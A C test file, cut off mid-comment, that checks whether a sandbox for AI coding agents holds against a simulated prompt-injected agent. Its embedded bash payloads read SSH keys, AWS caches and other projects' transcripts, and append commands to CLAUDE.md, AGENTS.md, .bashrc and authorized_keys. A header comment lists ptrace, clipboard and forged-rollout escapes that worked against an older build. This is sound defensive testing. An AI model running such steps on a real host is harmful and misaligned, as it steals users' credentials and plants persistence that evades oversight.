/* test-sandbox-attacks.c: issue 9's proofs of SPEC section 8, each attack run
 * inside a real sandboxed session and its effect checked where it would land.
 *
 * Every session is started as a user would (`hqt new P claude --sandbox --fs
 * rw`) on a private tmux server; the harness on PATH ($ROOT/bin/claude or
 * codex) is the attack payload, a bash script written by the test: a
 * prompt-injected agent with its permission prompts skipped.  An attack
 * payload first checks that it is inside the sandbox (pid 1 is bwrap and its
 * pid namespace is not the test's) and otherwise execs the stock fake
 * harness, so attack code never runs on the host; only the harmless controls
 * (reads, escapes to its own pane, git plants in the test's own copies) run
 * outside.  Results go to $PWD/attack-NAME.out, in the project (the one place
 * a writable session may write), found by name under the test root so that
 * a session working in its own git worktree is found too.  Every refusal has
 * a control that lands, so a broken setup cannot pass.
 *
 * Against main at 5f4df83 (the sandbox before issue 9's rebuild), all seven
 * FAIL, each with its control passing (ctest -R attacks, about 20 s):
 *   host_diff_claude, host_diff_codex: the session reads other projects'
 *       transcripts and the harness's history (~/.claude is bound writable
 *       whole), plants files in ~/.claude, ~/.claude/shell-snapshots, other
 *       projects' transcript dirs and in every directory of the project's
 *       .git, appends to ~/.claude/CLAUDE.md and the shell snapshot; bwrap
 *       leaves ~/.claude/plugins and settings.local.json behind on the host.
 *       The second session's control also fails: the user's CLAUDE.md (or
 *       AGENTS.md) as the host has it is not what it sees (the contract wants
 *       it visible read-only), so its "saw no plant" proves nothing yet.
 *   git_plants_never_run_on_the_host: commondir, worktrees/<wt>/commondir
 *       and `git init` plants (non-git project, monorepo sub-directory) run
 *       on the host's git status; skip-worktree hides an edit; a .git is left
 *       in the non-git project.  (config, hooks, hooksPath, modules: held.)
 *   ptrace_and_outliving: PTRACE_ATTACH and PTRACE_SEIZE of bwrap's init,
 *       process_vm_writev and pidfd_getfd all succeed.  (The kill check
 *       passes: the probe detaches at once and does not clear init's
 *       parent-death signal.)
 *   etc_allowlist: /etc/zz-secret and the 0600 pads past 256 are readable,
 *       /opt is visible (/etc/a/b/c/secret: held).
 *   terminal_no_clipboard_or_passthrough: OSC 52 query returns the paste
 *       buffer, OSC 52 set makes a new top buffer.  DCS passthrough is sent
 *       but not observed (that needs an attached client; not done).
 *   codex_capture_not_fed_from_a_sandbox: forged rollouts land in the host's
 *       ~/.codex and the unsandboxed codex in the other project captures the
 *       forged id.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <criterion/criterion.h>
#include <criterion/logging.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <glob.h>
#include <jansson.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "networld.h"
#include "support.h"

static struct tenv te;
static char *bin;    /* $ROOT/bin: the fake harnesses' install dir (on PATH) */
static char *data;   /* $XDG_DATA_HOME: hqt's data dir is data/hqt */
static char *tok;    /* unique per test: markers, plants, secrets */
static char *hostns; /* the inode of the test's pid namespace */
static char *bsock;  /* another hqt instance's tmux server, when a test starts one */

/* ---- small helpers ------------------------------------------------------ */

static char *
resolved(const char *path)
{
	char *r = realpath(path, NULL);

	cr_assert_not_null(r, "realpath %s: %s", path, strerror(errno));
	return r;
}

static bool
exists(const char *p)
{
	struct stat st;

	return lstat(p, &st) == 0;
}

/* s with every @KEY@ of the NULL-terminated pairs replaced. */
static char *
subst(const char *s, const char *const *pairs)
{
	char *out = strdup(s);

	for (size_t i = 0; pairs[i] != NULL; i += 2) {
		char *key = fmt("@%s@", pairs[i]), *p;
		while ((p = strstr(out, key)) != NULL) {
			char *n = fmt("%.*s%s%s", (int)(p - out), out, pairs[i + 1], p + strlen(key));
			free(out);
			out = n;
		}
		free(key);
	}
	return out;
}

/* Run argv in te's environment in directory dir (sh -c 'cd "$0" && exec "$@"'). */
static void
run_in(struct run *r, const char *dir, const char *const *argv)
{
	const char *full[64] = { "sh", "-c", "cd \"$0\" && exec \"$@\"", dir };
	size_t n = 4;

	for (size_t i = 0; argv[i] != NULL && n < 63; i++)
		full[n++] = argv[i];
	full[n] = NULL;
	run_argv(r, &te, full, NULL);
}

static void
sh_ok(const char *dir, const char *script)
{
	struct run r;
	const char *argv[] = { "sh", "-ec", script, NULL };

	run_in(&r, dir, argv);
	cr_assert_eq(r.code, 0, "in %s: %s: exit %d\n%s%s", dir, script, r.code, r.out, r.err);
	run_free(&r);
}

static char *
new_project(const char *name, const char *path)
{
	char *cmd = fmt("mkdir -p '%s'", path);

	sh_ok("/", cmd);
	free(cmd);
	char *real = resolved(path);
	run_ok(&te, "project", "add", name, real, NULL);
	return real;
}

static char *
num(long id)
{
	return fmt("%ld", id);
}

static void
kill_session(long id)
{
	char *n = num(id);

	run_ok(&te, "kill", n, NULL);
	free(n);
}

/* ---- processes ---------------------------------------------------------- */

static int
count_marked(const char *marker)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int n = 0;

	while (d != NULL && (de = readdir(d)) != NULL) {
		char *end;
		long pid = strtol(de->d_name, &end, 10);
		if (*end != '\0' || pid <= 0)
			continue;
		char *path = fmt("/proc/%ld/cmdline", pid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		free(path);
		if (fd < 0)
			continue;
		char buf[8192];
		ssize_t len = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (len <= 0)
			continue;
		buf[len] = '\0';
		for (ssize_t i = 0; i < len; i += (ssize_t)strlen(buf + i) + 1)
			if (strcmp(buf + i, marker) == 0) {
				n++;
				break;
			}
	}
	if (d != NULL)
		closedir(d);
	return n;
}

static int
none_marked(void *marker)
{
	return count_marked(marker) == 0;
}

static int
some_marked(void *marker)
{
	return count_marked(marker) > 0;
}

/* ---- the payloads ------------------------------------------------------- */

/*
 * What every payload starts with.  M and the secret pattern are put together
 * at run time, so the payload file itself holds neither.
 */
static const char HEADER[] =
	"#!/bin/bash\n"
	"# an attack payload of test-sandbox-attacks.c\n"
	"HOSTNS=@HOSTNS@ TOK=@TOK@ ROOT='@ROOT@' HOSTHOME='@HOME@' BIN='@BIN@'\n"
	"STOCK='@STOCK@'\n"
	"M=PLANT\"-$TOK\" S=SECRET\"-$TOK\" C=CONTROL\"-$TOK\"\n"
	"sandboxed() { [ \"$(cat /proc/1/comm 2>/dev/null)\" = bwrap ] &&\n"
	"	[ \"$(stat -L -c %i /proc/self/ns/pid)\" != \"$HOSTNS\" ]; }\n"
	"OUT=$PWD/attack-@NAME@.out\n"
	"rec() { printf '%s\\n' \"$*\" >>\"$OUT\"; }\n"
	"park() { rec DONE; exec -a \"hqt-attack-$TOK\" sleep 1000; }\n";

/* Install bin/harness: HEADER then body; attack says the body may run only
 * inside a sandbox (else the stock fake harness runs). */
static void
install_payload(const char *harness, const char *body, bool attack)
{
	char *stock = fmt("%s/%s", getenv("HQT_FAKE_DIR"), harness);
	const char *pairs[] = { "HOSTNS", hostns, "TOK", tok, "ROOT", te.root, "HOME", te.home,
				"BIN", bin, "STOCK", stock, "NAME", harness, NULL };
	char *guard = attack ? "sandboxed || exec \"$STOCK\" \"$@\"\n" : "";
	char *text = fmt("%s%s%s", HEADER, guard, body);
	char *script = subst(text, pairs);
	char *path = fmt("%s/%s", bin, harness);

	write_file(path, script, 0755);
	free(path);
	free(script);
	free(text);
	free(stock);
}

static char *found_path;

static int
find_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	if (flag == FTW_F && strcmp(path + ftw->base, found_path) == 0) {
		found_path = strdup(path);
		return 1;
	}
	return 0;
}

/* The file named name under dir (the first found), or NULL. */
static char *
find_named(const char *dir, const char *name)
{
	char *want = strdup(name);

	found_path = want;
	if (nftw(dir, find_one, 32, FTW_PHYS) != 1) {
		free(want);
		return NULL;
	}
	free(want);
	return found_path;
}

/*
 * The results of harness's payload in the project at dir (or in a worktree
 * of it somewhere under the test root): waits up to 10 s for its DONE line.
 * *where gets the file's path when not NULL.
 */
static char *
results_in(const char *dir, const char *harness, long id, char **where)
{
	char *name = fmt("attack-%s.out", harness), *path = fmt("%s/%s", dir, name);
	long long end = now_ms() + 30000;

	for (;;) {
		char *text = slurp(path);
		if (text == NULL) {
			/* In session id's own worktree (hqt's default place,
			 * $XDG_DATA_HOME/hqt/worktrees/<project>/<id>[-nick]),
			 * and only there: another session leaves a file of the
			 * same name in its own directory (the unsandboxed controls
			 * read the attack's, about one run in three, when theirs
			 * was not written yet; a session could read another's). */
			char *pat[2] = {
				fmt("%s/hqt/worktrees/*/%ld", data, id),
				fmt("%s/hqt/worktrees/*/%ld-*", data, id),
			};
			for (int k = 0; k < 2 && text == NULL; k++) {
				glob_t g;
				if (glob(pat[k], 0, NULL, &g) == 0 && g.gl_pathc == 1) {
					char *p = find_named(g.gl_pathv[0], name);
					if (p != NULL) {
						text = slurp(p);
						free(path);
						path = p;
					}
				}
				globfree(&g);
			}
			for (int k = 0; k < 2; k++)
				free(pat[k]);
		}
		if (text != NULL && (strstr(text, "\nDONE\n") != NULL || strncmp(text, "DONE\n", 5) == 0)) {
			if (where != NULL)
				*where = path;
			else
				free(path);
			free(name);
			return text;
		}
		if (now_ms() >= end) {
			struct run r;
			char *target = fmt("=hqt:hqt-%ld", id);
			run_tmux(&r, &te, "capture-pane", "-p", "-J", "-t", target, NULL);
			cr_assert_fail("session %ld: no DONE in %s after 30 s\n--- file:\n%s\n--- pane:\n%s",
				       id, path, text ? text : "(missing)", r.out);
		}
		free(text);
		sleep_ms(50);
	}
}

/* The lines of text that start with prefix, joined by newlines ("" if none). */
static char *
lines_with(const char *text, const char *prefix)
{
	char *out = strdup("");

	for (const char *l = text; l != NULL && *l != '\0';) {
		const char *e = strchr(l, '\n');
		size_t len = e != NULL ? (size_t)(e - l) : strlen(l);
		if (strncmp(l, prefix, strlen(prefix)) == 0) {
			char *n = fmt("%s%.*s\n", out, (int)len, l);
			free(out);
			out = n;
		}
		l = e != NULL ? e + 1 : NULL;
	}
	return out;
}

/* The rest of the first line starting with prefix, or NULL. */
static char *
line_after(const char *text, const char *prefix)
{
	for (const char *l = text; l != NULL && *l != '\0';) {
		const char *e = strchr(l, '\n');
		size_t len = e != NULL ? (size_t)(e - l) : strlen(l);
		if (len >= strlen(prefix) && strncmp(l, prefix, strlen(prefix)) == 0)
			return strndup(l + strlen(prefix), len - strlen(prefix));
		l = e != NULL ? e + 1 : NULL;
	}
	return NULL;
}

/* ---- setup ---------------------------------------------------------------- */

static void
setup(void)
{
	struct stat st;

	tenv_init(&te, NULL);
	tok = fmt("%d%lld", (int)getpid(), now_ms() % 100000000);
	cr_assert_eq(stat("/proc/self/ns/pid", &st), 0);
	hostns = fmt("%lu", (unsigned long)st.st_ino);
	bin = fmt("%s/bin", te.root);
	data = fmt("%s/data", te.root);
	mkdir(bin, 0755);
	mkdir(data, 0700);
	/* hqt's own files outside the snapshotted HOME */
	tenv_put(&te, "XDG_DATA_HOME", data);
	write_file(fmt("%s/hqt/consent", data), "skip-permissions-in-sandbox accepted 0\n", 0600);
	char *v = fmt("%s/cache", te.root);
	tenv_put(&te, "XDG_CACHE_HOME", v);
	free(v);
	v = fmt("%s/state", te.root);
	tenv_put(&te, "XDG_STATE_HOME", v);
	free(v);
	v = fmt("%s/run", te.root);
	mkdir(v, 0700);
	tenv_put(&te, "XDG_RUNTIME_DIR", v);
	free(v);
	v = fmt("%s:/usr/bin:/bin", bin);
	tenv_put(&te, "PATH", v);
	free(v);
	tenv_put(&te, "HQT_PLUGIN_DIR", getenv("HQT_TEST_PLUGIN_DIR"));
	tenv_put(&te, "HQT_VERIFY_MS", "300");
	tenv_put(&te, "GIT_CONFIG_NOSYSTEM", "1");
	static const char *const unset[] = {
		"IS_SANDBOX", "FAKE_DIR", "FAKE_LOG_DIR", "FAKE_RECORD", "FAKE_CONTROL",
		"FAKE_STATE", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY",
		"HQT_NO_PROBE_CACHE", "CODEX_HOME", "CLAUDE_CONFIG_DIR", "GIT_DIR",
		"GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_COMMON_DIR", "GIT_CEILING_DIRECTORIES",
	};
	for (size_t i = 0; i < sizeof unset / sizeof unset[0]; i++)
		tenv_put(&te, unset[i], NULL);
	/* the probe beside the payloads: inside the harness's (read-only) install dir */
	char *cp = fmt("cp '%s/tests/probe/hqt-probe' '%s/hqt-probe'", build_dir(), bin);
	sh_ok("/", cp);
	free(cp);
}

static void
teardown(void)
{
	if (bsock != NULL) {
		const char *argv[] = { "tmux", "-L", bsock, "kill-server", NULL };
		struct run r;

		run_argv(&r, &te, argv, NULL);
		run_free(&r);
		tmux_socket_remove(bsock, (unsigned)getuid());
		free(bsock);
		bsock = NULL;
	}
	tenv_free(&te);
	free(bin);
	free(data);
	free(tok);
	free(hostns);
}

TestSuite(attacks, .init = setup, .fini = teardown, .timeout = 120);

/* ---- 1. the host diff ------------------------------------------------------ */

/* One line per file: "relpath\ttype mode size hash target". */
struct snap {
	char **lines;
	size_t n, cap;
	size_t skip; /* length of the root's path + 1 */
};

static struct snap *cur_snap;

static uint64_t
hash_file(const char *path, off_t *size)
{
	uint64_t h = 1469598103934665603ULL;
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOFOLLOW);
	unsigned char buf[8192];
	ssize_t n;

	*size = 0;
	if (fd < 0)
		return 0;
	while ((n = read(fd, buf, sizeof buf)) > 0) {
		for (ssize_t i = 0; i < n; i++)
			h = (h ^ buf[i]) * 1099511628211ULL;
		*size += n;
	}
	close(fd);
	return h;
}

static int
snap_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	struct snap *s = cur_snap;
	char desc[5000];
	(void)flag; (void)ftw;

	if (strlen(path) < s->skip)
		return 0; /* the root itself */
	if (S_ISREG(st->st_mode)) {
		off_t size;
		uint64_t h = hash_file(path, &size);
		snprintf(desc, sizeof desc, "f %o %lld %016llx", (unsigned)(st->st_mode & 07777),
			 (long long)size, (unsigned long long)h);
	} else if (S_ISLNK(st->st_mode)) {
		char target[4096];
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n > 0 ? n : 0] = '\0';
		snprintf(desc, sizeof desc, "l -> %s", target);
	} else if (S_ISDIR(st->st_mode))
		snprintf(desc, sizeof desc, "d %o", (unsigned)(st->st_mode & 07777));
	else
		snprintf(desc, sizeof desc, "o %o", (unsigned)st->st_mode);
	if (s->n + 1 >= s->cap) {
		s->cap = s->cap ? s->cap * 2 : 256;
		s->lines = realloc(s->lines, s->cap * sizeof *s->lines);
		cr_assert_not_null(s->lines);
	}
	s->lines[s->n++] = fmt("%s\t%s", path + s->skip, desc);
	return 0;
}

static int
cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static struct snap *
snapshot(const char *root)
{
	struct snap *s = calloc(1, sizeof *s);

	s->skip = strlen(root) + 1;
	cur_snap = s;
	nftw(root, snap_one, 32, FTW_PHYS);
	qsort(s->lines, s->n, sizeof *s->lines, cmp_str);
	return s;
}

static void
snap_free(struct snap *s)
{
	for (size_t i = 0; s != NULL && i < s->n; i++)
		free(s->lines[i]);
	if (s != NULL)
		free(s->lines);
	free(s);
}

/* Does file root/rel hold text? */
static bool
holds(const char *root, const char *rel, const char *text)
{
	char *p = fmt("%s/%s", root, rel), *c = slurp(p);
	bool yes = c != NULL && strstr(c, text) != NULL;

	free(p);
	free(c);
	return yes;
}

/*
 * What changed from a to b under root: "+path", "-path", "~path" lines, but
 * not the changes allowed(rel) forgives (then only when the file holds no
 * plant: what hqt itself wrote there, never the payload's).
 */
static char *
snap_diff(struct snap *a, struct snap *b, const char *root, bool (*allowed)(const char *))
{
	char *out = strdup("");
	size_t i = 0, j = 0;

	while (i < a->n || j < b->n) {
		int c = i >= a->n ? 1 : j >= b->n ? -1 : strcmp(a->lines[i], b->lines[j]);
		const char *line = c < 0 ? a->lines[i] : b->lines[j];
		size_t plen = strcspn(line, "\t");
		char *rel = strndup(line, plen);
		char kind = c < 0 ? '-' : '+';

		if (c == 0) {
			i++, j++;
			free(rel);
			continue;
		}
		/* the same path on both sides: a change */
		if (c < 0 && j < b->n && strncmp(b->lines[j], line, plen + 1) == 0)
			kind = '~', j++;
		else if (c > 0 && i < a->n && strncmp(a->lines[i], line, plen + 1) == 0)
			kind = '~', i++;
		if (c < 0)
			i++;
		else if (kind != '~')
			j++;
		else
			j++;
		char *plant = fmt("PLANT-%s", tok);
		bool forgiven = allowed != NULL && kind != '-' && allowed(rel) && !holds(root, rel, plant);
		free(plant);
		if (!forgiven) {
			char *n = fmt("%s%c%s\n", out, kind, rel);
			free(out);
			out = n;
		}
		free(rel);
	}
	return out;
}

static const char *cur_own; /* the project's name in ~/.claude/projects */

/* In HOME: the host harness may see the session's own conversation. */
static bool
home_allowed(const char *rel)
{
	char *own = fmt(".claude/projects/%s/", cur_own);
	size_t n = strlen(rel);
	bool ok = (strncmp(rel, own, strlen(own)) == 0 && n > 6 && strcmp(rel + n - 6, ".jsonl") == 0) ||
		  strcmp(rel, own) == 0 || (strncmp(rel, own, strlen(own) - 1) == 0 && rel[strlen(own) - 1] == '\0');
	/* codex: the session's own rollout, for an unsandboxed resume */
	if (strncmp(rel, ".codex/sessions/", 16) == 0 &&
	    (strstr(rel, "/rollout-") == NULL || (n > 6 && strcmp(rel + n - 6, ".jsonl") == 0)))
		ok = true;
	free(own);
	return ok;
}

/* In the project's .git: what hqt's own `git worktree add` made for the
 * session (its branch, that branch's reflog, the worktree's admin dir),
 * forgiven while it holds no plant; the session itself writes nothing. */
static bool
git_allowed(const char *rel)
{
	/* hqt's own: the session's branch, and the hidden refs of its git
	 * store (refs/hqt/<store>/: base, promoted and what an import
	 * fetched, written by hqt on the host, gitstore.h). */
	if (strncmp(rel, "refs/heads/hqt", 14) == 0 || strncmp(rel, "refs/hqt", 8) == 0 ||
	    strncmp(rel, "logs", 4) == 0)
		return true;
	if (strncmp(rel, "worktrees", 9) == 0)
		return strstr(rel, "/hooks") == NULL && strcmp(strrchr(rel, '/') ? strrchr(rel, '/') + 1 : rel,
							       "config") != 0;
	return false;
}

/* A user's home as the harnesses leave it, with secrets where none may read. */
static void
populate_home(const char *other_proj)
{
	const char *h = te.home;
	char *S = fmt("SECRET-%s", tok);
	struct { const char *rel, *text; int mode; } f[] = {
		{ ".claude/settings.json", "{\"permissions\":{}}\n", 0644 },
		{ ".claude/CLAUDE.md", "# user instructions\n", 0644 },
		{ ".claude/agents/reviewer.md", "an agent\n", 0644 },
		{ ".claude/commands/ship.md", "a command\n", 0644 },
		{ ".claude/skills/s/SKILL.md", "a skill\n", 0644 },
		{ ".claude/hooks/pre.sh", "#!/bin/sh\n", 0755 },
		{ ".claude/shell-snapshots/snapshot-bash-1.sh", "# snapshot\nexport A=1\n", 0644 },
		{ ".claude/.credentials.json", "{\"claudeAiOauth\":{\"accessToken\":\"login\"}}\n", 0600 },
		{ ".claude.json", "{\"projects\":{}}\n", 0644 },
		{ ".codex/config.toml", "model = \"x\"\n", 0644 },
		{ ".codex/AGENTS.md", "# codex instructions\n", 0644 },
		{ ".codex/auth.json", "{\"tokens\":\"login\"}\n", 0600 },
		{ ".codex/rules/default.rules", "# rules\n", 0644 },
		{ ".kiro/steering/product.md", "# steering\n", 0644 },
		{ ".kiro/settings/cli.json", "{}\n", 0644 },
		{ ".aws/sso/cache/kiro-auth-token.json", "{\"accessToken\":\"kiro-login\"}\n", 0600 },
		{ ".bashrc", "# bashrc\n", 0644 },
		{ ".profile", "# profile\n", 0644 },
		{ ".gitconfig", "[user]\n\tname = t\n\temail = t@example.com\n", 0644 },
	};
	for (size_t i = 0; i < sizeof f / sizeof f[0]; i++) {
		char *p = fmt("%s/%s", h, f[i].rel);
		write_file(p, f[i].text, f[i].mode);
		free(p);
	}
	/* the secrets: none is the session's to read */
	struct { const char *rel, *what; } s[] = {
		{ ".ssh/id_ed25519", "ssh" },
		{ ".aws/sso/cache/other.json", "aws" },
		{ ".bash_history", "history" },
		{ ".claude/projects/-other-project/abc.jsonl", "claude-transcript" },
		{ ".claude/history.jsonl", "claude-history" },
		{ ".codex/history.jsonl", "codex-history" },
		{ ".kiro/sessions/cli/other.json", "kiro-session" },
	};
	for (size_t i = 0; i < sizeof s / sizeof s[0]; i++) {
		char *p = fmt("%s/%s", h, s[i].rel), *t = fmt("%s-%s\n", S, s[i].what);
		write_file(p, t, 0600);
		free(p);
		free(t);
	}
	char *p = fmt("%s/.codex/sessions/2026/01/01/rollout-2026-01-01T00-00-00-"
		      "0199aaaa-0000-7000-8000-000000000001.jsonl", h);
	char *t = fmt("{\"timestamp\":\"2026-01-01T00:00:00.000Z\",\"type\":\"session_meta\","
		      "\"payload\":{\"id\":\"0199aaaa-0000-7000-8000-000000000001\",\"cwd\":\"%s\","
		      "\"source\":\"cli\"}}\n{\"text\":\"%s-rollout\"}\n", other_proj, S);
	write_file(p, t, 0600);
	free(p);
	free(t);
	free(S);
}

static const char HOST_DIFF_PAYLOAD[] =
	": >\"$OUT\"\n"

	"NAMED='.claude/CLAUDE.md .claude/settings.json .claude/agents/evil.md\n"
	"  .claude/commands/evil.md .claude/skills/evil/SKILL.md .claude/hooks/evil.sh\n"
	"  .claude/shell-snapshots/snapshot-bash-1.sh .claude/projects/-other-project/abc.jsonl\n"
	"  .claude.json .codex/AGENTS.md .codex/config.toml .codex/rules/x .codex/prompts/evil.md\n"
	"  .kiro/steering/x.md .kiro/settings/cli.json .aws/sso/cache/other.json .bashrc\n"
	"  .profile .bash_profile .gitconfig .ssh/authorized_keys .config/git/config'\n"
	"PRUNE='( -path /proc -o -path /sys -o -path /dev ) -prune -o'\n"
	"# 1. what an earlier session left where this one looks\n"
	"find / $PRUNE -name \"hqt-plant-$TOK\" -print 2>/dev/null | while IFS= read -r f; do rec \"seen $f\"; done\n"
	"for base in \"$HOME\" \"$HOSTHOME\"; do for n in $NAMED .claude/shell-snapshots/*.sh; do\n"
	"  f=$base/$n; grep -qsF \"$M\" \"$f\" && rec \"seen $f\"; grep -qsF \"$C\" \"$f\" && rec \"control-seen $f\"\n"
	"done; done\n"
	"# 2. reads\n"
	"for base in \"$HOME\" \"$HOSTHOME\"; do for n in .ssh/id_ed25519 .aws/sso/cache/other.json \\\n"
	"    .bash_history .claude/projects/-other-project/abc.jsonl .claude/history.jsonl \\\n"
	"    .codex/history.jsonl .kiro/sessions/cli/other.json; do\n"
	"  c=$(cat \"$base/$n\" 2>/dev/null) && rec \"read $base/$n: $c\"\n"
	"done; done\n"
	"grep -rlsF \"$S\" \"$HOME\" \"$HOSTHOME\" /tmp /run /var/tmp /root \"$ROOT\" 2>/dev/null |\n"
	"  while IFS= read -r f; do [ \"$f\" = \"$OUT\" ] || rec \"leak $f\"; done\n"
	"# 3. writes: a file in every directory it can see, then the names harnesses obey\n"
	"find / $PRUNE -type d -print 2>/dev/null >/tmp/dirs.$$\n"
	"while IFS= read -r d; do { printf '%s\\n' \"$M\" >\"$d/hqt-plant-$TOK\"; } 2>/dev/null && rec \"wrote $d\"; done </tmp/dirs.$$\n"
	"for base in \"$HOME\" \"$HOSTHOME\"; do for n in $NAMED \"$base\"/.claude/shell-snapshots/*.sh; do\n"
	"  case $n in /*) f=$n ;; *) f=$base/$n ;; esac\n"
	"  mkdir -p \"${f%/*}\" 2>/dev/null\n"
	"  { printf '\\ntouch %s/ran-%s # %s\\n' \"$ROOT\" \"$TOK\" \"$M\" >>\"$f\"; } 2>/dev/null && rec \"appended $f\"\n"
	"done; done\n"
	"park\n";

static char *
claude_dir_name(const char *path)
{
	char *s = strdup(path);

	for (char *p = s; *p; p++)
		if (!((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9')))
			*p = '-';
	return s;
}

static char *plant_name;
static char *plant_hits;
static const char *plant_skip[4];

static int
find_plants(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	for (size_t i = 0; i < 4 && plant_skip[i] != NULL; i++) {
		size_t n = strlen(plant_skip[i]);
		if (strncmp(path, plant_skip[i], n) == 0 && (path[n] == '/' || path[n] == '\0'))
			return flag == FTW_D ? FTW_SKIP_SUBTREE : 0;
	}
	if (strcmp(path + ftw->base, plant_name) == 0) {
		char *n = fmt("%s%s\n", plant_hits, path);
		free(plant_hits);
		plant_hits = n;
	}
	return 0;
}

/* Every file named hqt-plant-TOK under dir, but not under the skipped ones. */
static char *
plants_under(const char *dir, const char *skip0, const char *skip1, const char *skip2)
{
	plant_name = fmt("hqt-plant-%s", tok);
	plant_hits = strdup("");
	plant_skip[0] = skip0;
	plant_skip[1] = skip1;
	plant_skip[2] = skip2;
	plant_skip[3] = NULL;
	nftw(dir, find_plants, 32, FTW_PHYS | FTW_ACTIONRETVAL);
	free(plant_name);
	return plant_hits;
}

static void
host_diff(const char *harness, const char *instructions)
{
	char *other = fmt("%s/other-project", te.root);
	populate_home(other);
	char *proj = new_project("p", fmt("%s/proj", te.root));
	char *proj2 = new_project("q", fmt("%s/proj2", te.root));
	sh_ok(proj, "git init -q && echo hello > tracked.txt && git add tracked.txt && "
		    "git -c user.name=t -c user.email=t@t commit -qm one");
	char *gitdir = fmt("%s/.git", proj);
	install_payload(harness, HOST_DIFF_PAYLOAD, true);
	char *own = claude_dir_name(proj);
	cur_own = own;
	char *marker = fmt("hqt-attack-%s", tok), *plant = fmt("PLANT-%s", tok);

	struct snap *h0 = snapshot(te.home), *g0 = snapshot(gitdir);
	long id = run_new(&te, "p", harness, "--sandbox", "--fs", "rw", NULL);
	char *where = NULL;
	char *out = results_in(proj, harness, id, &where);
	/* park() writes DONE, then execs the marked sleep */
	cr_expect(wait_for(some_marked, marker, 10000),
		  "control: the payload's process is not seen");
	kill_session(id);
	cr_expect(wait_for(none_marked, marker, 10000), "the session outlived its kill");
	sleep_ms(200);

	/* control: the walk ran and wrote where a session may (its project) */
	char *workdir = strndup(where, (size_t)(strrchr(where, '/') - where));
	char *own_plant = fmt("%s/hqt-plant-%s", workdir, tok);
	char *t = slurp(own_plant);
	cr_expect(t != NULL && strstr(t, plant) != NULL, "control: no plant in the project %s", workdir);
	free(t);
	char *reads = lines_with(out, "read "), *leaks = lines_with(out, "leak ");
	cr_expect_str_empty(reads, "secrets read:\n%s", reads);
	cr_expect_str_empty(leaks, "files with secrets visible:\n%s", leaks);
	char *secret = fmt("SECRET-%s", tok);
	cr_expect(strstr(out, secret) == NULL, "a secret is in the results");
	cr_expect(strstr(out, "\nseen ") == NULL, "plants seen before any:\n%s", lines_with(out, "seen "));

	struct snap *h1 = snapshot(te.home), *g1 = snapshot(gitdir);
	char *dh = snap_diff(h0, h1, te.home, home_allowed);
	char *dg = snap_diff(g0, g1, gitdir, git_allowed);
	cr_expect_str_empty(dh, "the session changed the host home:\n%s", dh);
	cr_expect_str_empty(dg, "the session changed the project's .git:\n%s", dg);
	/* anywhere else under the test root and in the host's shared dirs */
	char *hqtdata = fmt("%s/hqt", data);
	char *left = plants_under(te.root, proj, hqtdata, strcmp(workdir, proj) != 0 ? workdir : NULL);
	char *left_git = plants_under(gitdir, NULL, NULL, NULL);
	cr_expect_str_empty(left, "plants outside the project and hqt's data:\n%s", left);
	cr_expect_str_empty(left_git, "plants in the project's .git:\n%s", left_git);
	static const char *const shared[] = { "/tmp", "/var/tmp", "/dev/shm", "/run" };
	for (size_t i = 0; i < sizeof shared / sizeof shared[0]; i++) {
		char *l = plants_under(shared[i], te.root, NULL, NULL);
		cr_expect_str_empty(l, "plants in the host's %s:\n%s", shared[i], l);
		free(l);
	}

	/* Control for the diff: a change from outside is seen. */
	char *rc = fmt("%s/.bashrc", te.home);
	char *old = slurp(rc), *text = fmt("%secho %s\n", old, plant);
	write_file(rc, text, 0644);
	struct snap *h2 = snapshot(te.home);
	char *dc = snap_diff(h1, h2, te.home, home_allowed);
	cr_expect_str_eq(dc, "~.bashrc\n", "control: the diff misses a change");
	write_file(rc, old, 0644);

	/* A second session of the same harness in another project finds none
	 * of it; control: what the user put in its instructions (from outside)
	 * it does see. */
	char *ins = fmt("%s/%s", te.home, instructions), *it = slurp(ins);
	char *withc = fmt("%s%s\n", it, fmt("CONTROL-%s", tok));
	write_file(ins, withc, 0644);
	/* results_in looks for the name under the whole root: not the first's */
	unlink(where);
	struct snap *h3 = snapshot(te.home);
	long id2 = run_new(&te, "q", harness, "--sandbox", "--fs", "rw", NULL);
	char *out2 = results_in(proj2, harness, id2, NULL);
	kill_session(id2);
	cr_expect(wait_for(none_marked, marker, 10000), "the second session outlived its kill");
	cr_log_info("second session:\n%.3000s", out2);
	char *seen = lines_with(out2, "seen ");
	cr_expect_str_empty(seen, "the second project's session found the first one's plants:\n%s", seen);
	cr_expect(strstr(out2, "control-seen ") != NULL,
		  "control: the second session does not see the user's %s:\n%s", instructions,
		  lines_with(out2, "seen"));
	char *reads2 = lines_with(out2, "read "), *leaks2 = lines_with(out2, "leak ");
	cr_expect_str_empty(reads2, "the second session read secrets:\n%s", reads2);
	cr_expect_str_empty(leaks2, "the second session sees files with secrets:\n%s", leaks2);
	struct snap *h4 = snapshot(te.home);
	char *dh2 = snap_diff(h3, h4, te.home, home_allowed);
	cr_expect_str_empty(dh2, "the second session changed the host home:\n%s", dh2);
	snap_free(h0);
	snap_free(h1);
	snap_free(h2);
	snap_free(h3);
	snap_free(h4);
	snap_free(g0);
	snap_free(g1);
}

Test(attacks, host_diff_claude)
{
	host_diff("claude", ".claude/CLAUDE.md");
}

Test(attacks, host_diff_codex)
{
	host_diff("codex", ".codex/AGENTS.md");
}

/* ---- 2. git ---------------------------------------------------------------- */

/*
